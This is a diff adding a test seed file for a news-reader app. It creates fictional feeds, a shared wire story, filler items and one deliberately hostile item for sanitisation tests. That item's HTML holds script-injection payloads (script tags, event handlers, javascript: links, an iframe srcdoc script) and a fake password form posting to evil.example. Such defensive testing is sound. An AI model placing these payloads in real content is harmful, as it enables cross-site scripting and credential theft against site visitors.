@@ -1,0 +1,178 @@
+import { createDb, type ItemInput } from '@newsfeed/db';
+
+// A small, known database for the route and browser tests: four outlets, one wire story run by
+// two of them, one item whose stored HTML is hostile, one known search phrase, one old story, and
+// enough filler to need a second page.
+
+export const KNOWN_PHRASE = 'quantum harmonica festival';
+export const FILLER_STORIES = 40;
+export const HOSTILE_TITLE = 'Hostile markup survives nothing';
+
+export interface SeedInfo {
+  feeds: { planet: number; gazette: number; tech: number; monde: number; failing: number; disabled: number };
+  wireStoryId: number;
+  hostileStoryId: number;
+  phraseStoryId: number;
+  oldStoryId: number;
+  frenchStoryId: number;
+}
+
+function minutesAgo(minutes: number, now: Date): string {
+  return new Date(now.getTime() - minutes * 60_000).toISOString();
+}
+
+function item(key: string, fields: Partial<ItemInput> & { title: string }): ItemInput {
+  return {
+    key,
+    guid: key,
+    url: `https://news.example/${key}`,
+    canonicalUrl: `https://news.example/${key}`,
+    summary: null,
+    contentHtml: null,
+    contentText: null,
+    authors: [],
+    categories: [],
+    enclosures: [],
+    publishedAt: null,
+    updatedAt: null,
+    language: 'en',
+    imageUrl: null,
+    commentsUrl: null,
+    wire: null,
+    wordCount: 0,
+    contentHash: null,
+    simhash: null,
+    ...fields,
+  };
+}
+
+const WIRE_TEXT = [
+  'GENEVA (AFP) – Delegates from the four river states agreed a ceasefire on the disputed dam project after talks that ran through the night.',
+  'The deal opens the sluice gates for the summer and sets up a panel of engineers from every side.',
+];
+
+const HOSTILE_HTML = [
+  '<p>Before the script.</p>',
+  '<script>window.__xss = "script"; document.title = "pwned";</script>',
+  '<img src="https://images.example/x.png" onerror="window.__xss = \'onerror\'" alt="pic">',
+  '<p onclick="window.__xss = \'onclick\'">Click me paragraph.</p>',
+  '<a id="evil-link" href="javascript:window.__xss=\'href\'">A javascript link</a>',
+  '<svg onload="window.__xss = \'svg\'"><circle r="4"/></svg>',
+  '<iframe srcdoc="<script>parent.__xss = \'iframe\'</script>"></iframe>',
+  '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
+  '<p style="position:fixed;top:0">After the script.</p>',
+].join('\n');
+
+export async function seedTestDatabase(url: string, now: Date = new Date()): Promise<SeedInfo> {
+  const db = await createDb(url);
+  try {
+    const addFeed = async (key: string, title: string, language: string, folder: string) => {
+      const feed = await db.feeds.add({ url: `https://${key}.example/feed.xml`, title, siteUrl: `https://${key}.example/`, folder });
+      await db.feeds.update(feed.id, { language, lastSuccessAt: minutesAgo(5, now), nextPollAt: minutesAgo(-25, now) });
+      return feed.id;
+    };
+    const planet = await addFeed('planet', 'Daily Planet', 'en', 'World');
+    const gazette = await addFeed('gazette', 'Gotham Gazette', 'en', 'World');
+    const tech = await addFeed('tech', 'Tech Weekly', 'en', 'Tech');
+    const monde = await addFeed('monde', 'Le Monde Fictif', 'fr', 'Monde');
+    const failing = await addFeed('failing', 'Broken Bugle', 'en', 'World');
+    await db.feeds.update(failing, {
+      errorCount: 3,
+      lastError: 'HTTP 503 Service Unavailable from https://failing.example/feed.xml',
+      lastErrorAt: minutesAgo(2, now),
+    });
+    const disabled = await addFeed('gone', 'Gone Gazette', 'en', 'World');
+    await db.feeds.update(disabled, { disabled: true, disabledReason: 'HTTP 410 Gone: the feed was removed' });
+
+    const insert = async (feedId: number, input: ItemInput, storyId: number | null = null) => {
+      const [result] = await db.items.upsertMany(feedId, [input]);
+      if (!result?.id) throw new Error(`seed: item ${input.key} was not inserted`);
+      return db.stories.attach(result.id, storyId);
+    };
+
+    const wireStoryId = await insert(
+      planet,
+      item('wire-planet', {
+        title: 'River states agree dam ceasefire after all-night talks',
+        summary: WIRE_TEXT[0]!,
+        contentHtml: WIRE_TEXT.map((text) => `<p>${text}</p>`).join(''),
+        contentText: WIRE_TEXT.join('\n\n'),
+        authors: [{ name: 'Lois Lane' }],
+        publishedAt: minutesAgo(10, now),
+        wire: 'AFP',
+        imageUrl: 'https://images.example/dam.jpg',
+        wordCount: 40,
+      }),
+    );
+    await insert(
+      gazette,
+      item('wire-gazette', {
+        title: 'Dam ceasefire agreed by river states',
+        summary: WIRE_TEXT[0]!,
+        contentText: WIRE_TEXT.join('\n\n'),
+        publishedAt: minutesAgo(12, now),
+        wire: 'AFP',
+        wordCount: 40,
+      }),
+      wireStoryId,
+    );
+    const phraseStoryId = await insert(
+      tech,
+      item('phrase', {
+        title: 'Synth makers gather in the port city',
+        summary: `The first ${KNOWN_PHRASE} drew instrument builders from nine countries.`,
+        contentText: `The first ${KNOWN_PHRASE} drew instrument builders from nine countries to the old warehouse district.`,
+        publishedAt: minutesAgo(30, now),
+        wordCount: 20,
+      }),
+    );
+    const hostileStoryId = await insert(
+      tech,
+      item('hostile', {
+        title: HOSTILE_TITLE,
+        summary: 'An item whose stored HTML tries every trick.',
+        contentHtml: HOSTILE_HTML,
+        url: 'javascript:window.__xss="item-url"',
+        publishedAt: minutesAgo(40, now),
+      }),
+    );
+    const frenchStoryId = await insert(
+      monde,
+      item('monde', {
+        title: 'Le tramway de nuit arrive dans la vieille ville',
+        summary: 'Quatre lignes circuleront toute la nuit dès le printemps.',
+        contentText: 'Quatre lignes circuleront toute la nuit dès le printemps.',
+        language: 'fr',
+        publishedAt: minutesAgo(50, now),
+      }),
+    );
+    const oldStoryId = await insert(
+      planet,
+      item('old', {
+        title: 'Archive piece from last month',
+        summary: 'This story is older than a week.',
+        publishedAt: minutesAgo(60 * 24 * 20, now),
+      }),
+    );
+    for (let index = 1; index <= FILLER_STORIES; index++) {
+      await insert(
+        index % 2 === 0 ? planet : gazette,
+        item(`filler-${index}`, {
+          title: `Filler headline number ${index} about local affairs`,
+          summary: `Routine report ${index} from the council meeting, with a second sentence to fill two lines of summary on the front page.`,
+          publishedAt: minutesAgo(60 + index * 7, now),
+        }),
+      );
+    }
+    return {
+      feeds: { planet, gazette, tech, monde, failing, disabled },
+      wireStoryId,
+      hostileStoryId,
+      phraseStoryId,
+      oldStoryId,
+      frenchStoryId,
+    };
+  } finally {
+    await db.close();
+  }
+}
